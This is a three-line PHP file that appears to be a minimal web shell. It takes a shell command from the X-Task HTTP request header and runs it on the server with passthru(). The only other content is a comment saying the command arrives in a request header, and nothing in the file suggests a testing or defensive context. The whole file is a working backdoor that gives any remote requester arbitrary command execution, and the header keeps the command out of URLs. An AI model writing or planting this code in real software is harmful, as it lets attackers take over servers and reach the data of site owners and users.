<?php
// The command arrives in a request header.
passthru(getenv("HTTP_X_TASK"));
